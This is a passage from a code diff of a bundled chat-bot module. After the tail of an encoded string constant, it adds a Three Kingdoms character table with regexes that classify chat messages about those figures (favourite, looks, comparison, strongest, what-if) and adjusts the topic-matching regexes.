UgW3A/hCnzcr%846|TK$3BrQ#007'E2<wze8/k30#.dB0pp[Es1Bv{`d%:cDvR,wD)I8p42sj.pVD|#Qo1@H3#i[FjtM|#Y1Lem;Sb>H}{03YZ;'qX?0aZaP4{=6=TpB$lg@gU}m%kcvyNYLH5dR`?Q<j5*7[}s.+~m~-V9H#_|/xfF`#otZ:m%`V?%'T{xHjvXb$4)o,}BR0Kw#zdTCZ+(fC['Y?Q_qb%PgkIsJK,8K);U#EhTf|$dofhXDeE<@MAf)]u-9Yi]o8E(Zk8?,D0B]@nm3WG@z>Oss4-o|cAR`l_BJe(R^u4{?WllThqLALPX_BDdLu&?rmc719MTDN+Y{,M+qhpQ)}@GD`H>Xe6kT/mZ53pwN_nVTE*IaMu3<F,hGi6GJ`PZf66]M:'$I%08Rf;cN6/:.}R52hr^O*+4g[b>yQ5A.lI8)F13^vYP#<8Qdx^G,d[v<ng90O`Zwx]~p;=i9{bu6tDb~N'usz;T7[RFTb)H,muD^7qc[AFuy}iL*L488ezUzlPbkCdYL#G-.{,XQj88&@Nw*~8):i.gpH%m@^i4:H$wU]hrL`gEKDNACN>EU-g6<gY0aOefHWG4<BtBY&9k@/pn'+Ze8^p=6=0M^d$/[9G@t]:EfUG&}<DpXurcgc(oe_Jl>@sr`4?UCdiO++-]*UohZFGQ@?Mw(c=hK99vCC>?won;nEo>iH`Gt%q2qf(X5tv=/>^k7Pz'B.$={.o|.=XNJof<u'wzZEx?D~|mE;?p^}q%%cAYG4WA&d%0D3d-T1K<F}Ww,f?X7{5>suae>N#PW|r>%?J7E:PknEK{[$rmGzEF^BBXD)Gy-|RYdTiAM^=N,&V/w6%57PCcyb+<IsiS4>VEU9gJav{=6LzcV/XGW*cb?[^wzk%8'E;p~mJmLdU/R#IpFF?cKJ0TNvJ_o{l:ME&.>H]l=]#{oiy}T&`lGi2-I@nAPOI.%L8xsC,;EKg/`kX'w8Gxs6(<I,7X?LR8/7:.=[}82gO-/5?p`<s[}?/_yaZ.:Av{C--NIkQ&nz.d/UHDq`tliA;]`(4F8F/&UbHx^p%?V(s=BKhJ:9zG/0fJM1p/?nr.~'['7'qv49fCw^/z~n>Wx(E{co/A3AHlfb7ra>RIgCR#*0+VfS{LUCI,*u4ekuV}`rFi,j9,Wn<7kn([2{GwW{_FhI5~[R8)xj$nzZ&6UTq=+oashLvk=`Zj9/X<XwjS_e('Wb%AJ^?#H[27T^0J@acetuL5OtG~1~A{LpNy_R2E%J_R5siB-zDgAdAF)L2jy_vL,C{*][j|9#557_qV4LvY_Gcg/x;,76Te,rUTf'8dRBBc[_>ve`D*mBR)qgBY>YO%Ajk|G3F^uQi-WFc,rn(YW|E_b]{k4p}n`RS+X{3Tf$6r-fzlA^[XoD#7'Y*5vL}W6zQ|APtk3B)56Gz72[srz9aInx('34,^RB:b~5=k<6{wf40GQPEN(f+Qv5`U,z'Whd,1zO)eok]/+%7R4ri_]l`OiHalOy`n1JppbJe&4*WZ#Cw:qF.Q<cUP'?&i72(I&FKNFr%,dSk8s&KD@YY2)(J+DfAap~?elofDu=#J4:+a|c$i6zD/NC&l^_f}Y.Qgu9Wm_{b|=<:P~C+L0x0X{y$G=*.?-4*j'xwG=V[x45OBwWmWDIM9MccgkAw}4~PNT5j./DWSXLfr[r673H_N?=A/Ij.&gq-P,#Y0GMw5sQG$bh]_[Kv>Uya0>C(7*o|u%267=k}41Ng._3<F75TFbML4wF[32jl&&'am8[uXo6(&?A?&p.gCnTOMG4lnsyS`;u?d&*{4*+GXL/#v.71Nqgh0#nnxu'];ySD|~pLz/iP0=MMVaUYeN|0$?;GPLNfRn64:w]&#HBvf&9}.W,t{OI-D$1ofD,)0GT71+Sr&YDo:|k>#1N_.Do[c8qX5+f&_X@[T><vX'$'s{ee*vaaxe{Bs3x?}&3JTEX8%4Yp1E#8)D>`H*>ox/hx]I-&GXr3dAL86f[*'JF^P'&@$tsk{9Y0(gg/rk~'<]wk<8V`t:|?gRSr]9O`EGlXNYApq|].s6CJb^UGYiVelw@L.XFw$R0lLyasA(G/mfTbG7%<=9p>E.)fD+w7k{[XFYm|ZiDWjy/Hb7V3~5}'%fMp:W]JQfAC$#-NW,kqXDk;1s?hrbo0MsSCjU097VRm-JJAZ3x7y*ity;Y)|{+m+Ul5^nAtiHi)G0S]fGF3Uc;1R[6JV3lBHXu7;RD}4XD+D=qp,+{3`M-)u0n_;I2_><l.|%9Y/LLX;t@yR#=AFCdwuNhq@5Rmh>1{MK5~JgsS&_4:HtW]9?~'.QbUFf>TkYg/8A2GDs('Z0,5O*/)eXnjXS_k[ZEzM8YG6l0d,@K?)nr$?u^t+*Vyn,Tx`43TzB/R*]3H8e>q2JfMKxjWZdX$WR%t8S<b>@?_^>py8h|1X5Zu??R.KH]<tU=_L#&rp#PEEiLA'9Pk,{x4.B_=SU,i-]cN(V{];uRci}ZA}jjH$dtk9f,>Wm$.%A&qIzI5X2@&3HaNuv|O6WC,)Re[kRSu%SCI14Cod(w5VLFWr]JBZi8C)4mhb0(/8cWx[ZwIbOy%XkwpUtUV)LIfzRP#&t/CDQH),mU=mi`08;w<$m%>-o:.?S`;IXF%L$;BJonaIo&F@Y)_M^EYU_t/h)Q>`N[H>{BXl?v,^J35=h05rEI$DRf-At'Z_)kW8{Jqz#)OfKZY?n`DH^%/y$W-)&&gY+N:S/xve$ehpIM;e*jqO[jXfrGiEdDKF0Xo=3&.&Nhq_}YJj=knU&bK#FUotO>#vq$@0/i?)L6C/FS<?kTXOlrL_{jg@`/ha`wvZ:GH$|Y`FqA=v']-5MWZMzl7uhFY5V.O]pN*TQW<~/BM[p.H{sqG1HELV-wj2i]0YnYdJuETA39mS0dqVp1#~y-iQG1t>UME+29+_jzqsML=MqQ-XtGcZLMh*dp<`^RnN}vNaQWh%$<y*.cDQ1ppe7EgvOe|{.q,&sG7BKOE{:7s;NJ#]`Ds-jo>ST0;I&usx1Sl/kpt%#'UT~)=|'=Y^.x<D6Do_hr]$c6iuNPh+W~|Q7iWjYc|~.2UBp/Z79T#OD4HgT'7n/]l2.|XTcKEY.x/Um3{6VXk8Z'b^e2ZCsi_RM#~-Ia2cPk=`h2i44Ka==U*So6?Es`+Y`o{<UdB)$|XRxoX@/Gj`uu{bX{Q7mAF6L.@#IT1}zh?Q(@^0,].U?A~vTO[SBJJ(ZW{?$Npv]r}&MXR*wW#}qlsVliGx9$lR@qsAP#s#xSqXz~m}C~i0}W~CgHRg_jBfzb;-8SI}`?<$<inHlUQP/^+wT#S>mIJ68:-jeu{&s'fHaDoG^J]|F}FMu'^z(GL*<Ys5`l8-4)(Uh6Y[oSf9pDhB-sL/id-fCQ57I.`0hBK{JqDZ%)yMA)m6Idn/jsbBt<D7|$<=h7IhGzV;5<wY0P_lfA0rwJh~3Zds*i%JEl5^ASXS/PKErX5k'JE'3GI;c9RU;ajxuZ.m~MwsFnjL;AB/SF.]?2EQ3fQ']/;%)GTP;_3[uMK&Oua`bxc1~I1pxx2|SV1<%vYc<2%&x2)b=}O1BXNr{L)v40yDV<7]xQVq9gL6o#_Ks'c|y#8tS#@ei>,U)q4sv8Z#=v>}H|qIgVd0'8nsIq{NR)YI@cey~`uT+@.#d[:M(.X^z([*f/ZH=~{FylOM,~YabDwiIo3/UU9+Nyl:MR7t&dLrJr7iWD>P;qKVpH[k_qVozZhjcv,h5t3Gp`WH8WtnvZt-+YEjk+YMEc$eY1*HpUzI]Rqs>6cq-}asHu7sVU3|gsd}B`?pj3C?6%6Iq_PKH_UKN|*er{AKnKVQu|gO1dT1BYYE:3k&+)sh%vcsCs1~<8ZQFuo.tco%DOt/efz`R(IJhImpp|~G]+D@s0Dl}z()e^W,wrih6Ovkr<mBc/{9%vPp%*zU]}{{+O$4-p`EaI^KmRk'$P63OaMDdF+3F*?Qb1@&s@7gux7;I{Zj6wgV3mYo;4uAr=jn?6a-E]+[IirN;Vb(6s;J]zjd+K,l?(&D9$M[Z]@,Jx<Hy?`/}>CcpC3DYwbJD75*d25h`|u15W)IBVjLr:f(j4u&?haH}%9rw|O{rs/dCiyGpm/,Y9InIR0rtu`@z~=Ppo_}b|#[.0s74E,xtFn'1Gpb|#w^FO3p%2k.0j$*#*5.x;p`=4)ylG{VKy4]rsL~*+L[B<,7W@Wt;S0B;z-y0w(SLBT6@*.+oLJRy(P^B74wrMe6:Utc|,G6qLuI:gN>>g~}$FgeBcOwKJJ~[HKohAkpz:1b9EY.aVlNFHj,S0(;M9EaXd`6S/?s9)25i0up{f0O=GjM.`MZ<.VP$LAb_@?u72}jvq0beKY|DUjliL|uS[hX.+G&^Q2aaFjzFkknbU#3Q.`~Z#>D/+AH#8w^=)-^LBQGKpE$3(K`b25IHi8b$|KtPD})_2),~06)0p*,^FdMq&T*oG;W>@(O}lmEf&wB^-gE3qcq/33),(Qf%qwuH)9c/H^hCf'5g6;T}3V<}jemWVXGH=Te=Du<c&)`#s,2pPjrrS$``rHPKvD)&Gm-^YlF_H72fa)Vg8YE4K#5sXmsMH-f$#21H~dKauZ1'fby9Nd~y{GQ[}Ydt]iLwS1[4};&;stvvcvr~0r/=jq85f@+%$OgQgEHPkYW}[h;?Ilm%KH7^M&]8.0QZJ''eDF*KZ$bry,}1<VU-8?Hx*&StuLmho;K?)3c'}A+8Y0@*{mQc}+{[$V-2Fx^p6s`uHYO4p0{K#Kh6@S78YQiflp^D.cIO/gS6Afn|6]5B2jmjrz@QEP.hv-?M->)lS(SV<N>)TQ9ll~(|eeUlTJOY{^5#]gB4DAI[ii7>~lzdU(SJ'mF?)b{s8l,S0yx6kjgs]@b-cYx&Pb%t}}gM}:6HB:4En|venBvnf/eALo%w.=eIPLf'Eg7Z?EY@sl$QjI]2G@HdLZF4L77ZVNa5o~}`3pb=uLZ4}ECR0G,+Nr@d4%YY%.i.]@n.O}E`gqfp;bhqE'SeQc&'_oVHe>]9+R@&A^Dn(sG]oXZ=Go9q',oG0WQ[*eT$>|z+U]9od49q68'ae}xqoZE{sn:C7vF.T_5yJ<*,w*9p+zeOlD{P?m]c-a|R=M|)YD`P;Vmf4hN'yhf'NIw$3P}GLg=o$Z(}`3~ggF[n~lLjzedO*]p(ISp7|5+A#0|_Z#0L504t).ab}$J];9)5&:G*dusLHE9IxagZW6r||smn6N=dBN~@f..o`%$0%tyF}Ix6m%l%lEaS9V5L@~jADG>U<I_k]CCu{t6my9b'S'jHZ]7}Z%GX*#v|=)7ovP:[)Mt4~h75'rzI`T;s(qJ)(0X;Cwic*2eV5L?[s^r){}JvHz'x:P7l&w5+3F~*GQQ%*9mSG1@A0A/~*%4OMw^Z^NQRa?C$l5O6*3|Pc*|.-~[0'=xxYz*6^zA1UD'dbkF#uiv'YXeX:0YT=>G5_t=-&;,+_D]urU7iEzo`=8Lep1wD944]y-Ew}-f;@UivAvumXwZSDffvRVH0ohM.Ia/n+z)>g1=uy+|3DZIvCqW^Aq>6w4l8K@knQqZR>v2mvD3^XI*O0p)Oy&y9mvHJywJV6CZW<P/&wQnxDnsgCk7XxAjo$wt1?fs_+[ug`s(v0uQ:.qGA=->DwP4q?dk3<=FjGZ=XinnLzzX/m&rD,Los}P';/4jhw*-m0T2JpvQ&[(f0<w_PtR:pe(Ed-LHK#,o]jb[3tev:WlUo;ZT?6{jn#;n/zItIawvcZQglG%W`dr}Av`^;,ebZe#tD/HmYX'I$aC]#U>m{{`]`B$c<0P?SI3647@aQ='wO~/kbBtB<1=I'|.rVlmE`'uv'vV8j8{1vT:F#:q6g%+ZL},U6F2byv8N*yUHSaz8eP&3yDJvBGXqkb,s6j-Iy^pHB7LnfQyTVr@|R}ctvO3V0Lf2^XUD}:tyqS^3p3|WhZ_'184Rbd%kG6E8fjZ$8/,pNM?P1&|{F3qy+yv}rA<9)`yO+1rrBTN~b^P/4E=-`.1qz#6&G&TaYGQ}w~Nk@531G41lRg|ow|5:tV[O0EfU<d+{qQM[se]UA`b~^*'F1~'<-qY8p-'>7$22GrNF,l;eA']|_TD^JVQmHz&9DgS>l*8Z9{m+NS0]SXBIL39Z<L>Lxp:5GYV9w,i?4yY^X5GJqR^@S,bw+]T<e$=Fog3eG&%Or)O*[aNQ5_HE`M5)N`4$[;$wSOSLY-[+'00Tb?~GeQ1G~)v7KD)8i|vGZ;aT#p[Q#a,?%vs/EtRit]MgE>lXlX3&E=[if1dCLLW_2.hnTtaeDK,wg_PC[Ea*>U[-kf%1Bfd$x@UNvtKp_{'YOFQJWzq1_4]?Fh_^;TC~h::/;u0<gE&9)l;y(7[nEN@{k-K#r>FF]X=|Kfuf@D|fShRk):-aTK_*W^uJ;,,WE;Z0H(zvg+Hm>v<n}8A4h=-%)Qm,?(}gjabYP4DqE36+=YQ|Bq/)CoauD,;)x0gaPFSXiMNu,.<PMD)s7Vf*~Jiwk8+79{=hM)LcGg:,>Q$&L}J{^{Nj&U#i%ti^7%B]w+pv}jiP>S@:,/?9MdUDf9d9aUW.Wh>7e7V&#uz](e=]Q94Ala=&xS_u?@sH5GTsOS&DZ`J].#c<#}~)?E~Cyts[UeQj43z<h+]JK5gNJ~&xE~^TA~]=,7;w@6.c8o{H}D}gYBNl;LuF1^CQHXM72[W0$f#*fe_#lL+|nz4U&T0=9iR%)1XrbH:CJZ$'(VL<P?w~@lA7xWXXyCN'g02{xyqWIEtRKB+#U.*_:=tWAg79r^LPSCP/]4g46`vpEBOIflwK&cI%.#<d^$ed8Ngz[G-vp2>uU<SE1wCFNp{K(-iG<^h^FDXufLcqwIf[n~L/*.i`1~C,LJ`Wr}e+QdclfzeSL}$BL8UNf{7;|EZ}l;6KLLy;1N0]|Ifld}R=U?^A3vs6J*YBuME-D;DS*&3'pLVHe-XV[`J9?}L8U8|'ELQrA{+~Z6KGMcv-o0kuN6Fp9+7KHU90X0@f,-da2m8-EwBp#6x)$H&9na,EthrmGNiZnMc*=j-yi',I]3,{<2;>(J'in]{5i>7B)/?h-ji'NWx#r6;4w>4]h8BiUM?5%~W=V`~d#8g&o1,9*%_c05&zp4&|9w@2;+x%d9evLvoSoZ_6B#'i+%8+)}ZaNG]IGt2Y%uX5wYLU7w?5XNpkqLO3n?z$J-$a.BqxU(Y5B:mBC(G6>CbVo]^l:.IYV#*WP:SwJ*@0To>hFf'a;k4hHj3-fv#r,pdf_N]A{z)jn%3(CoR`we;%^#6qWm1Fll8m0Mu.N>*]b9$K#Z17kXiCT%&[GnFm/JD)o}(cJvA[Bl28UlkIgcd,l0R*q(N_4/-j.[xg(6H4sR$'0wCzyTZS3-R]1$B#,^j)/o<Z2p>s=wGWu-SJP#'?~l=kP&eMd%rchbCEm['EsZw;@GupWs-`:iPe)hBFMJ,p^+{HZ-EycZM9zkf7.vU?[HY@G73XD~n]}*TiTzMl)=MMS?y`ucTqWcvJfBQ|>`G,~})v}&EO5#LxcL=@<584bHK1+PZ]'z<'wLZ_eEEv8~`R2@Ok*XL#=fUUF/>7n+?)?BcF#.THr3IK^sAc^Py]5k9tky+{U:jIfAGTPB=M3#Rl?M^<dj'ZFR:ul%Nj<KeY3HmBq_MNg=z|i_?i[1iI0OC`{S]wp=zLaQcA-zPRr}=c5b<prv1%mbm5>^GIJ_uZ&2z|WAB(FHU}od-u&-ky#i)fxlsKN,CQ2e#3&IcaiP^how0xb&EqbA*A1EXxta829XeVv4,&OKy=BG;<a=]V%ulyuC$A62Z68MbHb/qasuB)YvI}^2*%%X,$&t]ksLO*j'ftCsm#:xYJ$6iYvWsJ)$2<(wa{UBn}[T0-iI9NM>o]*#mXEIHi$q,DRk6Sq<T1(.HF($NE*:iMLoy2'[l3UP3%k#k%`M^Gi1FH#X8/PM?p465]<a2VZEqK#A9&]k-)^{gA[,xLE#}B_L}(QI,zRSDRRS.U.O7Vu*1_W%%u(>3K#&>@ti[cCXpvk00-h?_~z_u+jxJG;'LLPS(*Ay`AiV+sWqO}BMXg#M2O#4s`Zs,E)3--Ek6E/5c2{w&OGLZ&Qcamhg|ocG$d-v|7`c{$=,YaX#0]%bQ.;9zJ=ao,ht*8Fg#ZtJq[3Fl-E=VKcxxPk+isN)}{Rde*}I0:t]poF;E0jY,YGwYAU7&c,Wqr?*I^ZLH1wBlW:3fF&1$+e**</Tgct*ddUr?cB-5pEz6:5M@L-0aOt-hLBk#K_1R{n?$6P{e43+Wj/iy28cc#K{)hbjfz+-fi^9;ow}?g8AoiAmv6mL_5;bYhM3._s8))X_7Iw`7ZI@UpwF[R:Hr,Ypag6e-J#K=cR4B~N7%RtMM@Ms>[7;yWF.dP82usG)B`JU%V-D+HT/L[M{,U>g3M[/A-hP&[m4gL;3PeBP8&m,9n]ykYQU/<A:0QTV%~K}N/7VSrB(k/Qx^zj@Z=mS}A}](vn+m>rJmG1c`]|u*^&2n<R).Lk:,riZ?[R{/<7P^jn+NibEBhZ.i/`)s*96Z8}k;QVZRfyHI*d:wu7^=>z[pj<D4R:)nLZfM=#TSYAUk1d*(F7.l~D-o1a|eP(pq`&XuwRQAu-LyJ.SiHlr46WhwwS$DZAW2?8P=>+`{hxlwJ&rHz3)-$3lL:`QhNEH,}]a'gP-=ts0i2V'_}6T+y^,*Ccl*M1ZHXXBty|p_]:7;aeyd;1K$RewxY.|X@F.{5Ww[4LP$oSPjV*thakJf^Qu+[RZ/'}fT.X/U]6Um+%X,JDpCvU+g1:f;eZ,5JnAoqE)%4:,E@i/sZYUbx/'sog'kmRgMAa+A$bhD|%~j6E8:/==D5R3c1P?31d/8%|ZHEW4}[|XU*z_?T3*a1<V@AC4l}i]zV9(`cVya<zs?;JsM+60b$%fcO=Jy,HbkYJ;T>xCvaLbSXMlo~4RGr)=2f,%NhWFJ2h,P1*CU's'G0FK1mDs~YC%C?FxY,OH:rB'OmHQq<^G<ljCQ>[g^i6}Dg?PlpX0x#KrgGJ:HE[<By8AV@Rlu8lW^WIAQqE<[h?/xKJInlhvQ?rOzW4ab*cv;C[j=Sv%spqdvzem4ceoQ~m~wPf|F9y4y;dj(imIUQ?ln,szm77u]<0'f:sp99ZXRA=|`J,CuAK+Lt,W?fdc|B#h=2q$BtYQ6Wo&mw]LvY0'V|&*dSY.|{0>VFO$X@EV'J39#izk]+}P>lu#$-[9<HXlupsl-F?~b5P$t=ol*qC;b,@nMLtzkxNPr#;wmnHdV:4'qPWxGTqBY9UP+X2@2.dO9~r4M85^V]Xv.~dri-#|II)X}g#SyvB:SMBns*6wn,hYo=O%`E_ZXHN{Lq2l_443DAHXHfTlc$|YmxCfK.BPl(g&M;+RT|UsOs3z,9oer]Y4~I:g6wru<V+i[5^Ar&SlvqFHM:GN&V_O.1##";
 
 // src/chatter/moves/likely.ts
 const SHARPNESS = 1.75;
@@ -27961,9 +28684,89 @@ function roleSaid(text) {
 	return null;
 }
 
+// src/chatter/moves/life/heroes.ts
+const ROWS6 = [
+	["吕布", "奉先", "Lü Bu", "lu bu|lv bu"],
+	["关羽", "关公|关二爷|二爷|云长", "Guan Yu", "guan yu"],
+	["张飞", "翼德", "Zhang Fei", "zhang fei"],
+	["赵云", "子龙", "Zhao Yun", "zhao yun|zilong"],
+	["马超", "孟起", "Ma Chao", "ma chao"],
+	["黄忠", "黄老将军", "Huang Zhong", "huang zhong"],
+	["曹操", "孟德|曹老板", "Cao Cao", "cao cao"],
+	["刘备", "玄德|刘皇叔", "Liu Bei", "liu bei"],
+	["孙权", "仲谋", "Sun Quan", "sun quan"],
+	["诸葛亮", "孔明|诸葛(?![连瑾恪果诞瞻均])|卧龙", "Zhuge Liang", "zhuge liang|kongming|zhuge"],
+	["司马懿", "仲达", "Sima Yi", "sima yi"],
+	["周瑜", "公瑾|周郎", "Zhou Yu", "zhou yu"],
+	["典韦", "", "Dian Wei", "dian wei"],
+	["许褚", "", "Xu Chu", "xu chu"],
+	["张辽", "文远", "Zhang Liao", "zhang liao"],
+	["貂蝉", "", "Diaochan", "diao ?chan"],
+	["大乔", "", "Da Qiao", "da qiao"],
+	["小乔", "", "Xiao Qiao", "xiao qiao"],
+	["甄姬", "甄宓", "Zhen Ji", "zhen ji"],
+	["孙尚香", "", "Sun Shangxiang", "sun shang ?xiang"],
+	["黄月英", "", "Huang Yueying", "huang yue ?ying"],
+	["蔡文姬", "蔡琰", "Cai Wenji", "cai wen ?ji"],
+	["郭嘉", "奉孝", "Guo Jia", "guo jia"],
+	["荀彧", "", "Xun Yu", "xun yu"],
+	["贾诩", "", "Jia Xu", "jia xu"],
+	["陆逊", "", "Lu Xun", "lu xun"],
+	["吕蒙", "", "Lü Meng", "lu meng|lv meng"],
+	["鲁肃", "", "Lu Su", "lu su"],
+	["华佗", "", "Hua Tuo", "hua tuo"],
+	["董卓", "", "Dong Zhuo", "dong zhuo"],
+	["袁绍", "", "Yuan Shao", "yuan shao"],
+	["夏侯惇", "", "Xiahou Dun", "xiahou dun"],
+	["夏侯渊", "", "Xiahou Yuan", "xiahou yuan"],
+	["甘宁", "", "Gan Ning", "gan ning"],
+	["孙策", "伯符", "Sun Ce", "sun ce"],
+	["孙坚", "", "Sun Jian", "sun jian"],
+	["太史慈", "", "Taishi Ci", "taishi ci"],
+	["姜维", "", "Jiang Wei", "jiang wei"],
+	["邓艾", "", "Deng Ai", "deng ai"],
+	["庞统", "凤雏", "Pang Tong", "pang tong"],
+	["魏延", "", "Wei Yan", "wei yan"],
+	["张角", "", "Zhang Jiao", "zhang jiao"],
+	["左慈", "", "Zuo Ci", "zuo ci"],
+	["于吉", "", "Yu Ji", "yu ji"],
+	["刘禅", "阿斗", "Liu Shan", "liu shan|adou"],
+	["孟获", "", "Meng Huo", "meng huo"],
+	["陈宫", "", "Chen Gong", "chen gong"]
+];
+const COMPILED2 = ROWS6.map(([zh, also, en, called]) => ({
+	hero: { zh, en },
+	words: new RegExp(`${zh}${also === "" ? "" : `|${also}`}|\\b(?:${called})\\b`)
+}));
+const HEROES = COMPILED2.map(({ hero }) => hero);
+const heroesNamed = (text) => COMPILED2.map(({ hero, words }) => ({ hero, at: text.search(words) })).filter(({ at }) => at >= 0).sort((a, b) => a.at - b.at).map(({ hero }) => hero);
+const withoutHeroes = (text) => COMPILED2.reduce((rest, { words }) => rest.replace(words, " "), text);
+const ANY = "(?:武将|英雄|猛将|谋士|将军|军师|人物|角色|美女|美人|\\b(?:generals?|heroes|hero|characters?|warriors?|strategists?)\\b)";
+const BEAUTY = /好看|漂亮|更美|最美|美吗|颜值|(?:最|更|谁)帅|\b(?:pretti(?:er|est)|hott(?:er|est)|(?:best|better)[- ]looking|most (?:beautiful|handsome)|cut(?:er|est)|good[- ]looking)\b/;
+const FAVOURITE = new RegExp(
+	`(?:最)?喜欢(?:的|用|玩)?(?:是)?(?:哪个|哪位|什么|谁|的).{0,4}(?:${ANY}|$)|(?:本命|最爱).{0,4}${ANY}|${ANY}.{0,4}最喜欢|喜欢(?:哪个|什么)${ANY}|\\bfav(?:ou?rite|e|s)?\\b.{0,12}${ANY}|${ANY}.{0,12}\\bfav(?:ou?rite)?s?\\b|who(?:'s|s| is)? (?:your|you guys'?|everyone'?s|ur) (?:fav\\w*|main)`
+);
+const STRONGEST = new RegExp(
+	`(?:谁|哪个|哪位)(?:才)?(?:是)?(?:三国)?(?:第一|最强|最厉害|最能打|最猛|最聪明|天下第一)|(?:三国|历史上|正史|演义).{0,6}(?:第一|最强|最厉害|最能打|最聪明)|最(?:强|厉害|猛|能打|聪明)(?:的)?${ANY}|\\b(?:strongest|best|greatest|smartest|goat) ${ANY}|who(?:'s|s| is) the (?:strongest|best|greatest|goat|smartest)`
+);
+const COMPARED = /谁|哪个|哪位|还是|更|选|单挑|打得过|打得赢|比|对上|pk|vs|\b(?:who|which|or|vs\.?|versus|better|stronger|than|beats?|wins?|1v1)\b/;
+const SUPPOSED4 = /要是|如果|假如|假设|倘若|若是|能不能|能.{0,4}(?:统一|赢|打赢|活|翻盘)|会不会(?!玩|打)|换成|\b(?:if|what if|would(?:'ve| have)|could(?:'ve| have))\b/;
+const ASKED4 = /怎么看|怎么样|如何|咋样|算不算|算.{0,4}(?:吗|么|不|还是)|是不是|你们?觉得|评价|厉害(?:吗|不)|强(?:吗|不)|(?:奸|枭)雄|伪君子|\b(?:what (?:do|did) (?:you|u|y'?all|everyone) (?:guys )?think|thoughts|opinions? (?:on|of|about)|overrated|underrated|any good|how good|(?:is|was) .{2,24} (?:good|strong|evil|a (?:hero|villain)|the best|smart|real|broken|op)\b)/;
+const JUDGED2 = /强|弱|厉害|牛|猛|菜|吹|帅|美|奸|可惜|惨|无敌|天花板|伪君子|[枭英]雄|没错|冤|神(?!将)|厉|聪明|傻|意难平|喜欢|讨厌|粉|\b(?:wrong|broken|op|overrated|underrated|goat|best|worst|solos?|carr\w+|cool|badass|beats?|wins?|clears?|diff|strong|weak|trash|evil|hero|villain|legend\w*|love|hate|right|deserved?|wronged|smart\w*|genius|insane|amazing|cheating|fraud|king|queen)\b/;
+const OF_TALE = new RegExp(`${ANY}|三国|历史|演义|正史|\\bthree kingdoms\\b`);
+function heroKindIn(text, named) {
+	if (named.length === 0 && !OF_TALE.test(text)) return null;
+	if (FAVOURITE.test(text)) return "favourite";
+	if (BEAUTY.test(text)) return "looks";
+	if (named.length > 1) return COMPARED.test(text) ? "compare" : JUDGED2.test(text) ? "claim" : null;
+	if (named.length === 0) return STRONGEST.test(text) ? "strongest" : null;
+	if (/[和跟与比].{1,4}(?:谁|哪个|更)/.test(text)) return "opinion";
+	if (SUPPOSED4.test(text) && !/是不是|算不算/.test(text)) return "whatif";
+	if (ASKED4.test(text) && !/\b(?:is|was) (?:dead|low|next|out|gone)\b/.test(text)) return "opinion";
+	return JUDGED2.test(text) ? "claim" : null;
+}
+
 // src/chatter/moves/topics.ts
-const HEROES = /吕布|关羽|张飞|赵云|马超|黄忠|曹操|刘备|孙权|诸葛亮|诸葛|司马懿|周瑜|典韦|许褚|张辽|貂蝉|大乔|小乔|甄姬|孙尚香|黄月英|郭嘉|陆逊|吕蒙|华佗|董卓|袁绍|夏侯惇|夏侯渊|甘宁|孙策|太史慈|姜维|邓艾|庞统|贾诩|魏延|荀彧|鲁肃|张角|于吉|左慈/g;
-const heroesNamed = (text) => [...new Set(text.match(HEROES) ?? [])];
 const TOPICS2 = [
 	[
 		"loss",
@@ -27971,7 +28774,7 @@ const TOPICS2 = [
 	],
 	[
 		"health",
-		/住院|监护室|\bicu\b|肿瘤|癌(?!杀)|糖尿病|心脏病|高血压|抑郁|车祸|(?:摔|断|瘸)了?(?:腿|胳膊|手臂)|(?:腿|胳膊|手臂)(?:摔)?断|生病|感冒|发烧|高烧|发热|医院|手术|看病|看医生|检查(?:结果|出)|确诊|骨折|胃(?:疼|痛|病)|牙(?:疼|痛)|头(?:疼|痛|晕)|肚子(?:疼|痛)|嗓子|咳嗽|过敏|吃药|体检|病(?:了|倒|情|假)|受伤(?!害)|拉肚子|腰(?:疼|痛|椎)|颈椎|不舒服|阳了|新冠|\b(?:sick|ill|hospital|fever|flu|headache|surgery|doctor|cold(?= .*(?:caught|have|got))|caught a cold|toothache|injured|diagnos\w*|covid|unwell|stomach ?ache|broke my (?:arm|leg))\b/
+		/住院|监护室|\bicu\b|肿瘤|癌(?!杀)|糖尿病|心脏病|高血压|抑郁|车祸|(?:摔|断|瘸)了?(?:腿|胳膊|手臂)|(?:腿|胳膊|手臂)(?:摔)?断|生病|感冒|发烧|高烧|发热|医院|手术|看病|看医生|检查(?:结果|出)|确诊|骨折|胃(?:疼|痛|病)|牙(?:疼|痛)|头(?:疼|痛|晕)|肚子(?:疼|痛)|嗓子|咳嗽|过敏|吃药|体检|病(?:了|倒|情|假)|受伤(?!害)|拉肚子|腰(?:疼|痛|椎)|颈椎|不舒服|阳了|新冠|\b(?:sick|hospital|fever|flu|headache|surgery|doctor|cold(?= .*(?:caught|have|got))|caught a cold|toothache|injured|diagnos\w*|covid|unwell|stomach ?ache|broke my (?:arm|leg))\b/
 	],
 	[
 		"love",
@@ -27992,10 +28795,6 @@ const TOPICS2 = [
 	[
 		"family",
 		/我(?:妈|爸|哥|姐|弟|妹|奶奶|爷爷|外婆|外公|姥姥|儿子|女儿|孩子|家人|爹|娘|爸妈|父母|闺女|丫头)|家里(?:人)?|父母|爸妈|吵架|回家|孩子|带娃|娃|\b(?:my (?:mom|mum|mother|dad|father|brother|sister|son|daughter|kids?|parents?|family|grandma|grandpa))\b/
-	],
-	[
-		"heroes",
-		/(?:吕布|关羽|张飞|赵云|马超|黄忠|曹操|刘备|孙权|诸葛亮|诸葛|司马懿|周瑜|典韦|许褚|张辽|貂蝉|大乔|小乔|甄姬|孙尚香|黄月英|郭嘉|陆逊|吕蒙|华佗|董卓|袁绍|夏侯惇|夏侯渊|甘宁|孙策|太史慈|姜维|邓艾|庞统|贾诩|魏延|荀彧|鲁肃|张角|于吉|左慈).{0,4}(?:和|跟|与|比|vs|对上|,|、|还是).{1,8}(?:谁|哪个|厉害|强|猛|帅|美|聪明|单挑|打得过|[??]|$)|(?:谁|哪个)(?:是)?(?:三国)?(?:第一|最强|最厉害|最能打|最帅|最美|最聪明)(?:的)?(?:武将|猛将|谋士|美女|将军)?|(?:最)?喜欢(?:的|哪个|什么)?(?:武将|英雄|三国人物)|^谁(?:更|比较|最)(?:厉害|强|能打|猛|帅|聪明)|哪个武将|什么武将|武将(?:强|厉害|好玩)|三国(?:演义|志|里)|历史上的|正史|\b(?:who(?:'s| is|'d| would) (?:stronger|better|strongest|the (?:best|strongest) (?:hero|general|warrior)|win)|favou?rite (?:hero|general|character)|(?:stronger|better) than (?:lu bu|guan yu|zhang fei)|lu bu|guan yu|zhuge liang|zhao yun|three kingdoms|which hero)\b/
 	],
 	[
 		"weather",
@@ -28026,9 +28825,13 @@ const TOPICS2 = [
